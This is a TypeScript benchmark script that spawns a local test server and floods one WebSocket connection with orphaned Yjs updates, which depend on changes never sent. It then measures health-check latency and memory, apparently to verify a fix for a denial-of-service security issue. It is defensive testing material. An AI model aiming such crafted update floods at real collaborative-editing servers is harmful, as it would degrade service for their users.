// Measures /api/health latency of a server (its own process) while one connection sends Yjs
// updates that wait for changes the server never received (security issue 15, item 4).
//   npx tsx bench/attacks/pendingUpdatesAttack.ts 150 204800        150 updates of 200 KB
//   npx tsx bench/attacks/pendingUpdatesAttack.ts 1900 0 small      many small waiting items,
//                                                                    then 1,900 tiny updates
import * as Y from 'yjs';
import { makeTempDir } from '../../test/helpers/startTestServer.js';
import { SPAWNED_ADMIN_PASSWORD, spawnServer } from '../../test/helpers/spawnServer.js';
import { readFileSync, rmSync } from 'node:fs';
import { createMeetingFixture, STANDARD_CAST } from '../../test/helpers/meetingFixture.js';
import { openRawSocket } from '../../test/helpers/syncClients.js';
import { syncUpdate } from '../../test/helpers/protocolMessages.js';

const COUNT = Number(process.argv[2] ?? 150);
const SIZE = Number(process.argv[3] ?? 200 * 1024);

function orphanUpdate(i: number): Uint8Array {
  const doc = new Y.Doc();
  doc.clientID = 1_000_000 + i;
  const text = doc.getText('text');
  text.insert(0, 'a');
  const sv = Y.encodeStateVector(doc);
  let s = '';
  while (s.length < SIZE) s += Math.random().toString(36).slice(2);
  text.insert(1, s.slice(0, SIZE));
  return Y.encodeStateAsUpdate(doc, sv); // lacks the first item it depends on
}

const dataDir = makeTempDir('shh-measure-');
const server = await spawnServer(dataDir);
const fixture = await createMeetingFixture(server, SPAWNED_ADMIN_PASSWORD, {
  cast: STANDARD_CAST.slice(0, 1),
  statuses: ['open'],
});
const me = fixture.people.secretary!;
const doc = `m/${fixture.meeting.id}/self/${me.id}`;
const raw = await openRawSocket(`${server.syncUrl}/${doc}?token=${me.token}`);
function tinyOrphan(clientID: number, size: number): Uint8Array {
  const doc = new Y.Doc();
  doc.clientID = clientID;
  const text = doc.getText('text');
  text.insert(0, 'a');
  const sv = Y.encodeStateVector(doc);
  text.insert(1, 'b'.repeat(size));
  return Y.encodeStateAsUpdate(doc, sv);
}
// 'small': one message of many small waiting items, then COUNT tiny waiting updates.
const updates =
  process.argv[4] === 'small'
    ? [
        syncUpdate(
          Y.mergeUpdates(Array.from({ length: 4000 }, (_, i) => tinyOrphan(2_000_000 + i, 10))),
        ),
        ...Array.from({ length: COUNT }, (_, i) => syncUpdate(tinyOrphan(3_000_000 + i, 10))),
      ]
    : Array.from({ length: COUNT }, (_, i) => syncUpdate(orphanUpdate(i)));
const latencies: number[] = [];
let attacking = true;
let failures = 0;
const poll = (async () => {
  while (attacking) {
    const t = performance.now();
    try {
      await fetch(`${server.url}/api/health`);
    } catch (err) {
      failures++;
      console.error('health failed', (err as Error).cause);
    }
    latencies.push(performance.now() - t);
    await new Promise((r) => setTimeout(r, 100));
  }
})();
const start = performance.now();
let closeCode: number | null = null;
void raw.closed.then((c) => (closeCode = c.code));
for (const u of updates) {
  if (raw.ws.readyState !== raw.ws.OPEN) break;
  raw.ws.send(u);
}
// Wait until the server has handled everything: a step 1 is answered after the updates before it.
await new Promise<void>((resolve) => {
  const check = setInterval(() => {
    if (closeCode !== null || raw.ws.bufferedAmount === 0) {
      clearInterval(check);
      resolve();
    }
  }, 50);
});
const health = async () => {
  const t = performance.now();
  await fetch(`${server.url}/api/health`).catch(() => failures++);
  return performance.now() - t;
};
// keep polling until health answers fast again (the server caught up) or 120 s
while (performance.now() - start < 120_000) {
  if ((await health()) < 50 && performance.now() - start > 1000) break;
  await new Promise((r) => setTimeout(r, 100));
}
attacking = false;
await poll;
const elapsed = performance.now() - start;
latencies.sort((a, b) => a - b);
console.log(
  JSON.stringify({
    updates: COUNT,
    bytesEach: SIZE,
    closeCode,
    secondsUntilHealthy: +(elapsed / 1000).toFixed(1),
    healthSamples: latencies.length,
    healthFailures: failures,
    healthMaxMs: Math.round(latencies.at(-1)!),
    healthP50Ms: Math.round(latencies[Math.floor(latencies.length / 2)]!),
    serverRssMB: Math.round(
      (Number(readFileSync(`/proc/${server.child.pid}/statm`, 'utf8').split(' ')[1]) * 4096) / 1e6,
    ),
  }),
);
raw.ws.close();
server.child.kill('SIGKILL');
await server.exited;
rmSync(dataDir, { recursive: true, force: true });
process.exit(0);
